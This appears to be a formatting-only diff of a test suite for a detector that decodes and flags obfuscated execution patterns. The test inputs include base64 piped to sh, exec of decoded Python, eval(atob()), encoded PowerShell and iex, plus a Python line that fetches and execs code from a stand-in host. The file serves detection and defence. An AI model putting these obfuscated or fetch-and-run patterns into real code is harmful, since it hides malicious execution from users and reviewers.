@@ -30,7 +30,10 @@ describe("what a pipe of the shell decodes", () => {
     ["echo aGVsbG8= | base64 -d | sh", "hello"],
     ["echo 'aGVsbG8=' | base64 --decode | sudo bash -s -- --yes", "hello"],
     [`base64 -d <<< "${base64(PIPE)}" | bash`, PIPE],
-    [`base64 -d <<EOF | sh\n${base64("echo one\necho two").replace(/(.{8})/g, "$1\n")}\nEOF`, "echo one\necho two"],
+    [
+      `base64 -d <<EOF | sh\n${base64("echo one\necho two").replace(/(.{8})/g, "$1\n")}\nEOF`,
+      "echo one\necho two",
+    ],
     [`bash -c "$(echo ${base64("echo hi")} | base64 -d)"`, "echo hi"],
     [`P=${base64("echo hi")}; echo "$P" | base64 -d | bash`, "echo hi"],
     [`eval "$(printf '\\x65\\x63\\x68\\x6f hi')"`, "echo hi"],
@@ -44,7 +47,13 @@ describe("what a pipe of the shell decodes", () => {
     expect(only(extended, text).payload).toMatchObject({ text: payload, truncated: false });
   });
 
-  it.each(["base64 -d payload.b64 | sh", 'echo "$1" | base64 -d | sh', "cat payload | base64 -d | sh", 'pwsh -EncodedCommand "$P"', "powershell -enc $p"])("%s is no literal: nothing is said of it", (text) => {
+  it.each([
+    "base64 -d payload.b64 | sh",
+    'echo "$1" | base64 -d | sh',
+    "cat payload | base64 -d | sh",
+    'pwsh -EncodedCommand "$P"',
+    "powershell -enc $p",
+  ])("%s is no literal: nothing is said of it", (text) => {
     const finding = only(extended, text);
     expect(finding.payload).toBeUndefined();
     expect(messages(finding)).not.toContain("the payload");
@@ -53,7 +62,10 @@ describe("what a pipe of the shell decodes", () => {
   it.each([
     ["echo '%%%%' | base64 -d | sh", "it is no base64"],
     ["echo aGVsbG8 | base64 -d | sed s/a/b/ | sh", "what sed makes of it is not followed"],
-    [`echo ${base64("no gzip")} | base64 -d | gunzip | sh`, "it is no compressed data: invalid gzip data"],
+    [
+      `echo ${base64("no gzip")} | base64 -d | gunzip | sh`,
+      "it is no compressed data: invalid gzip data",
+    ],
   ])("%s cannot be decoded, and the trace says so", (text, reason) => {
     const finding = only(extended, text);
     expect(finding.payload).toBeUndefined();
@@ -64,14 +76,27 @@ describe("what a pipe of the shell decodes", () => {
 describe("what a call decodes", () => {
   it.each([
     ["python", `import base64\nexec(base64.b64decode("${base64("print(1)")}"))`],
-    ["python", `import base64 as b, zlib as z\nexec(compile(z.decompress(b.b64decode(b'${base64(deflateSync("print(1)"))}')), "<string>", "exec"))`],
-    ["python", `import base64\npart = "${base64("print(1)")}"\ncode = base64.b64decode(part)\nexec(code.decode("utf-8"))`],
+    [
+      "python",
+      `import base64 as b, zlib as z\nexec(compile(z.decompress(b.b64decode(b'${base64(deflateSync("print(1)"))}')), "<string>", "exec"))`,
+    ],
+    [
+      "python",
+      `import base64\npart = "${base64("print(1)")}"\ncode = base64.b64decode(part)\nexec(code.decode("utf-8"))`,
+    ],
     ["python", `exec(__import__("base64").b64decode("${base64("print(1)")}"))`],
     ["python", `exec(bytes.fromhex("${hex("print(1)")}").decode())`],
     ["javascript", `eval(atob("${base64("print(1)")}"))`],
-    ["javascript", `const p = "${base64("print(1)").slice(0, 4)}" + '${base64("print(1)").slice(4)}';\n(0, eval)(window.atob(p));`],
+    [
+      "javascript",
+      `const p = "${base64("print(1)").slice(0, 4)}" + '${base64("print(1)").slice(4)}';\n(0, eval)(window.atob(p));`,
+    ],
   ])("in %s under contract: %s", (tag, code) => {
-    expect(only(contract, fence(tag, code)).payload).toEqual({ text: "print(1)", truncated: false, findings: [] });
+    expect(only(contract, fence(tag, code)).payload).toEqual({
+      text: "print(1)",
+      truncated: false,
+      findings: [],
+    });
   });
 
   it.each([
@@ -89,67 +114,125 @@ describe("what a call decodes", () => {
     ["perl", `eval decode_base64('${base64("print(1)")}');`],
     ["perl", `eval pack("H*", "${hex("print(1)")}");`],
     ["powershell", `powershell.exe -NoP -EncodedCommand ${wide("print(1)")}`],
-    ["powershell", `iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('${base64("print(1)")}')))`],
-    ["powershell", `$d = '${wide("print(1)")}'\n$s = [System.Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($d))\niex $s`],
-    ["powershell", `iex (New-Object IO.StreamReader((New-Object IO.Compression.GzipStream([IO.MemoryStream][Convert]::FromBase64String('${base64(gzipSync("print(1)"))}'),[IO.Compression.CompressionMode]::Decompress)))).ReadToEnd()`],
+    [
+      "powershell",
+      `iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('${base64("print(1)")}')))`,
+    ],
+    [
+      "powershell",
+      `$d = '${wide("print(1)")}'\n$s = [System.Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($d))\niex $s`,
+    ],
+    [
+      "powershell",
+      `iex (New-Object IO.StreamReader((New-Object IO.Compression.GzipStream([IO.MemoryStream][Convert]::FromBase64String('${base64(gzipSync("print(1)"))}'),[IO.Compression.CompressionMode]::Decompress)))).ReadToEnd()`,
+    ],
   ])("in %s under extended: %s", (tag, code) => {
     expect(only(extended, fence(tag, code)).payload?.text).toBe("print(1)");
   });
 
-  it.each(["exec(base64.b64decode(payload))", "eval(atob(process.env.CODE))", "exec(base64.b64decode(sys.argv[1]))"])("%s is no literal: nothing is said of it", (text) => {
+  it.each([
+    "exec(base64.b64decode(payload))",
+    "eval(atob(process.env.CODE))",
+    "exec(base64.b64decode(sys.argv[1]))",
+  ])("%s is no literal: nothing is said of it", (text) => {
     const finding = only(contract, text);
     expect(finding.payload).toBeUndefined();
     expect(messages(finding)).not.toContain("the payload");
   });
 
   it.each([
-    ["python", 'exec(marshal.loads(base64.b64decode("aGk=")))', "marshal.loads is not decoded here"],
+    [
+      "python",
+      'exec(marshal.loads(base64.b64decode("aGk=")))',
+      "marshal.loads is not decoded here",
+    ],
     ["python", 'exec(base64.b64decode("no base64!"))', "it is no base64"],
-    ["javascript", 'eval(CryptoJS.AES.decrypt("U2FsdGVk", "key"))', "CryptoJS.AES.decrypt is not decoded here"],
+    [
+      "javascript",
+      'eval(CryptoJS.AES.decrypt("U2FsdGVk", "key"))',
+      "CryptoJS.AES.decrypt is not decoded here",
+    ],
   ])("in %s %s cannot be decoded, and the trace says so", (tag, code, reason) => {
-    expect(messages(only(extended, fence(tag, code)))).toContain(`the payload cannot be shown: ${reason}`);
+    expect(messages(only(extended, fence(tag, code)))).toContain(
+      `the payload cannot be shown: ${reason}`,
+    );
   });
 });
 
 describe("what a payload holds", () => {
   it("is read by the detector, and part of the trace", () => {
     const finding = only(extended, `echo ${base64(PIPE)} | base64 -d | sh`);
-    expect(finding.payload?.findings).toMatchObject([{ rule: "bash/fetch-pipe", text: PIPE, span: [0, PIPE.length] }]);
-    expect(messages(finding)).toContain(`the payload decodes to "${PIPE}"\nin the payload, curl fetches remote content`);
+    expect(finding.payload?.findings).toMatchObject([
+      { rule: "bash/fetch-pipe", text: PIPE, span: [0, PIPE.length] },
+    ]);
+    expect(messages(finding)).toContain(
+      `the payload decodes to "${PIPE}"\nin the payload, curl fetches remote content`,
+    );
   });
 
   it("is read as the language that executes it", () => {
-    const code = "import urllib.request\nexec(urllib.request.urlopen('https://x.example/a.py').read())";
-    expect(only(extended, fence("python", `exec(base64.b64decode("${base64(code)}"))`)).payload?.findings).toMatchObject([{ rule: "python/fetch-execute" }]);
+    const code =
+      "import urllib.request\nexec(urllib.request.urlopen('https://x.example/a.py').read())";
+    expect(
+      only(extended, fence("python", `exec(base64.b64decode("${base64(code)}"))`)).payload
+        ?.findings,
+    ).toMatchObject([{ rule: "python/fetch-execute" }]);
   });
 
   it("is opened again, so deep and no deeper", () => {
-    const layers = Array.from({ length: 5 }).reduce<string>((inner) => `echo ${base64(inner)} | base64 -d | sh`, "echo hi");
+    const layers = Array.from({ length: 5 }).reduce<string>(
+      (inner) => `echo ${base64(inner)} | base64 -d | sh`,
+      "echo hi",
+    );
     const depths: string[] = [];
-    for (let found: Finding | undefined = only(extended, layers); found !== undefined; found = found.payload?.findings[0]) depths.push(found.payload === undefined ? "closed" : "open");
+    for (
+      let found: Finding | undefined = only(extended, layers);
+      found !== undefined;
+      found = found.payload?.findings[0]
+    )
+      depths.push(found.payload === undefined ? "closed" : "open");
     expect(depths).toEqual(["open", "open", "open", "closed"]);
   });
 
   it("has an escape for what commands a terminal or is not seen, and its places are those of the escaped text", () => {
-    const { payload } = only(extended, `echo ${base64(`\x1b[2J\u202e\n${PIPE}\n\u0007`)} | base64 -d | sh`);
+    const { payload } = only(
+      extended,
+      `echo ${base64(`\x1b[2J\u202e\n${PIPE}\n\u0007`)} | base64 -d | sh`,
+    );
     expect(payload?.text).toBe(`\\x1b[2J\\u202e\n${PIPE}\n\\x07`);
-    expect(payload?.findings.map(({ span, text }) => [payload.text.slice(...span), text])).toEqual([[PIPE, PIPE]]);
+    expect(payload?.findings.map(({ span, text }) => [payload.text.slice(...span), text])).toEqual([
+      [PIPE, PIPE],
+    ]);
   });
 
   it("is bytes where it is no text", () => {
-    expect(only(extended, `echo ${base64(Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0xff]))} | base64 -d | sh`).payload?.text).toBe("\\x7fELFÿ");
+    expect(
+      only(extended, `echo ${base64(Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0xff]))} | base64 -d | sh`)
+        .payload?.text,
+    ).toBe("\\x7fELFÿ");
   });
 
   it("is shown from its beginning where it is long, also where little is unpacked to much", () => {
-    const long = only(extended, fence("sh", `echo ${base64("echo hi\n".repeat(1500))} | base64 -d | sh`)).payload;
+    const long = only(
+      extended,
+      fence("sh", `echo ${base64("echo hi\n".repeat(1500))} | base64 -d | sh`),
+    ).payload;
     expect(long).toMatchObject({ truncated: true });
     expect(long?.text).toHaveLength(4096);
-    const packed = only(extended, fence("sh", `echo ${base64(gzipSync(Buffer.alloc(10_000_000, "a")))} | base64 -d | gunzip | sh`)).payload;
+    const packed = only(
+      extended,
+      fence(
+        "sh",
+        `echo ${base64(gzipSync(Buffer.alloc(10_000_000, "a")))} | base64 -d | gunzip | sh`,
+      ),
+    ).payload;
     expect(packed).toMatchObject({ truncated: true, findings: [] });
   });
 
   it("belongs to findings alone: what is warned against or printed is decoded by nobody", () => {
-    const { findings, notes } = extended.detect(`Never run \`echo ${base64(PIPE)} | base64 -d | sh\`.`);
+    const { findings, notes } = extended.detect(
+      `Never run \`echo ${base64(PIPE)} | base64 -d | sh\`.`,
+    );
     expect(findings).toEqual([]);
     expect(JSON.stringify(notes)).not.toContain("payload decodes");
   });
